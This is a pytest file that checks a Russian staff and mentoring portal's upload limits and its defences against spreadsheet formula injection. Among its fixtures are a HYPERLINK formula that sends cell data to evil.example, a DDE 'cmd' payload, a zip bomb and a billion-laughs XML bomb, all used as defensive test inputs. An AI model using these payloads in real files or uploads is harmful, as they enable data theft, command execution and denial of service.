"""Uploaded tables are bounded before they are parsed and every malformed file gets a Russian message with nothing
saved; every CSV/XLSX export and the JSON registry are inert (no live formula); imports apply the form's rules."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from portal.documents.inert import inert
from portal.errors import Invalid
from portal.extensions import db
from portal.staff.models import Staff
from tenants.access import Role
from tenants.context import institution_scope, platform_scope
from tests.factories import make_institution, make_staff, make_user

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите") Иван Иванович'
HEADER = ["Фамилия", "Имя", "Отчество", "Должность", "Дата начала педагогической деятельности",
          "Дата приёма в организацию"]


def _workbook(rows) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    for row in rows:
        ws.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _replace_part(data: bytes, name: str, content: bytes) -> bytes:
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item.filename, content if item.filename == name else source.read(item.filename))
    return out.getvalue()


def _import_staff(inst, filename: str, data: bytes):
    from portal.staff.importer import import_staff

    with institution_scope(inst.id):
        return import_staff(filename, data, None)


def _staff_count(inst) -> int:
    with institution_scope(inst.id):
        return db.session.query(Staff).count()


GOOD_ROW = ["Петрова", "Анна", "Ивановна", "воспитатель", "01.09.2020", "01.09.2021"]


def _refused(inst, filename: str, data: bytes, fragment: str) -> None:
    with pytest.raises(Invalid) as caught:
        _import_staff(inst, filename, data)
    assert fragment in caught.value.message, caught.value.message
    db.session.rollback()
    assert _staff_count(inst) == 0


# --- bounded imports ------------------------------------------------------------------------------------------------

def test_workbook_declaring_a_huge_dimension_is_refused_before_parsing(app):
    inst = make_institution()
    data = _workbook([GOOD_ROW])
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    huge = sheet.replace(b'<dimension ref="A1:F2"/>', b'<dimension ref="A1:XFD3000"/>')
    assert huge != sheet
    _refused(inst, "list.xlsx", _replace_part(data, "xl/worksheets/sheet1.xml", huge), "столбцов")


def test_zip_bomb_named_xlsx_is_refused_before_parsing(app):
    inst = make_institution()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("xl/worksheets/sheet1.xml", b"\0" * (20 * 1024 * 1024))
    _refused(inst, "list.xlsx", out.getvalue(), "zip-бомб")


def test_malformed_sheet_xml_is_a_russian_message(app):
    inst = make_institution()
    data = _replace_part(_workbook([GOOD_ROW]), "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row><c")
    _refused(inst, "list.xlsx", data, "Excel")


def test_billion_laughs_workbook_is_refused(app):
    inst = make_institution()
    laughs = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                         for i in range(1, 10))
              + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>')
    data = _workbook([GOOD_ROW])
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    part = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in names else "xl/workbook.xml"
    _refused(inst, "list.xlsx", _replace_part(data, part, laughs), "Excel")


def test_csv_field_longer_than_the_csv_limit_is_a_russian_message(app):
    inst = make_institution()
    text = ";".join(HEADER) + "\n" + "Петрова;" + "А" * 140_000 + ";Ивановна;воспитатель;01.09.2020;01.09.2021\n"
    _refused(inst, "list.csv", text.encode(), "CSV не прочитан")


def test_csv_with_too_many_rows_is_refused(app):
    from portal.documents import limits

    inst = make_institution()
    text = ";".join(HEADER) + "\n" + ("Петрова;Анна;;воспитатель;01.09.2020;01.09.2021\n" * (limits.MAX_ROWS + 1))
    _refused(inst, "list.csv", text.encode(), "строк")


def test_truncated_docx_document_xml_is_a_russian_message(app):
    from docx import Document

    from portal.mentoring.importer import import_groups

    inst = make_institution()
    doc = Document()
    table = doc.add_table(rows=2, cols=3)
    for cell, text in zip(table.rows[0].cells, ["№", "Ф.И.О. наставника", "Ф.И.О. наставляемого"]):
        cell.text = text
    buffer = io.BytesIO()
    doc.save(buffer)
    xml = zipfile.ZipFile(io.BytesIO(buffer.getvalue())).read("word/document.xml")
    broken = _replace_part(buffer.getvalue(), "word/document.xml", xml[: len(xml) // 2])
    with institution_scope(inst.id), pytest.raises(Invalid, match="Документ Word повреждён"):
        import_groups(inst, "order.docx", broken, None)


def test_bad_upload_through_the_page_is_422_in_russian(app, client, login):
    inst = make_institution()
    login(make_user((Role.CURATOR, inst)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("xl/worksheets/sheet1.xml", b"\0" * (20 * 1024 * 1024))
    r = client.post(f"/i/{inst.slug}/staff/import", data={"file": (io.BytesIO(out.getvalue()), "list.xlsx")},
                    content_type="multipart/form-data")
    assert r.status_code == 422 and "zip-бомб" in r.get_data(as_text=True)
    assert _staff_count(inst) == 0


# --- imports apply the form's rules ----------------------------------------------------------------------------------

def test_list_import_refuses_a_formula_as_a_name_like_the_staff_form(app):
    from portal.mentoring.importer import import_groups

    inst = make_institution()
    text = "№;Ф.И.О. наставника;Ф.И.О. наставляемого\n1;" + FORMULA.replace(";", ",") + ";Новикова Дарья Олеговна\n"
    with institution_scope(inst.id), pytest.raises(Invalid) as caught:
        import_groups(inst, "list.csv", text.encode(), None)
    assert any("буквы" in row["reason"] for row in caught.value.rows)
    db.session.rollback()
    assert _staff_count(inst) == 0


def test_staff_import_refuses_a_formula_as_a_name(app):
    inst = make_institution()
    with pytest.raises(Invalid) as caught:
        _import_staff(inst, "list.csv", (";".join(HEADER) + "\n+Петрова;Анна;;воспитатель;01.09.2020;01.09.2021\n").encode())
    assert caught.value.rows and "буквы" in caught.value.rows[0]["reason"]


# --- exports are inert -----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["=1+1", "+7 999", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_inert_prefixes_a_cell_a_spreadsheet_would_run(value):
    assert inert(value) == "'" + value
    assert inert(inert(value)) == inert(value)


def test_ordinary_values_are_left_alone():
    assert inert("Петрова Анна") == "Петрова Анна" and inert(-2) == -2 and inert(None) is None


def _stored_formula_staff(inst) -> Staff:
    # Rows written before names were checked on import: the export must be inert anyway.
    return make_staff(inst, last_name=FORMULA, first_name="+Анна", middle_name="@Ивановна")


def test_staff_export_xlsx_holds_no_live_formula(app, client, login):
    inst = make_institution()
    _stored_formula_staff(inst)
    login(make_user((Role.CURATOR, inst)))
    r = client.get(f"/i/{inst.slug}/staff/export.xlsx")
    ws = load_workbook(io.BytesIO(r.data)).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert ws["A2"].value == "'" + FORMULA and ws["B2"].value == "'+Анна"


def test_registry_xlsx_csv_and_json_hold_no_live_formula(app, client):
    from portal.mentoring.states import MemberRole  # noqa: F401  (the factory makes a mentor)
    from portal.registry import registry
    from portal.registry.models import RegistryExport
    from portal.staff.models import Training
    from tests.factories import make_group

    inst = make_institution()
    mentor = _stored_formula_staff(inst)
    make_group(inst, mentors=[mentor])
    with platform_scope("fixture"):
        db.session.add(Training(institution_id=inst.id, staff_id=mentor.id, title="=cmd|' /C calc'!A0",
                                kind="course", hours=16, start_date=date(2024, 1, 10), end_date=date(2024, 1, 20)))
        db.session.commit()
    coordinator = make_user((Role.COORDINATOR, inst.municipality))
    with platform_scope("fixture"):
        export = RegistryExport(municipality_id=inst.municipality_id, requested_by_id=coordinator.id)
        db.session.add(export)
        db.session.commit()
        registry.build(export)
        from portal.storage.store import store

        xlsx, csv_text = (b"".join(store().read(registry.file_key(export, kind))) for kind in ("xlsx", "csv"))
    ws = load_workbook(io.BytesIO(xlsx)).active
    values = [c.value for row in ws.iter_rows(min_row=2) for c in row]
    assert all(not (isinstance(v, str) and v.startswith(("=", "+", "-", "@"))) for v in values)
    assert any(isinstance(v, str) and v.startswith("'" + FORMULA) for v in values)
    rows = list(csv.reader(io.StringIO(csv_text.decode("utf-8-sig")), delimiter=";"))[1:]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    result = app.test_cli_runner().invoke(args=["tokens", "create", coordinator.email])
    api = app.test_client()
    api.environ_base["HTTP_AUTHORIZATION"] = "Bearer " + result.output.strip().splitlines()[-1]
    items = api.get(f"/api/v1/m/{inst.municipality.slug}/registry").get_json()["items"]
    assert items and all(not v.startswith(("=", "+", "-", "@")) for item in items for v in item.values() if v)
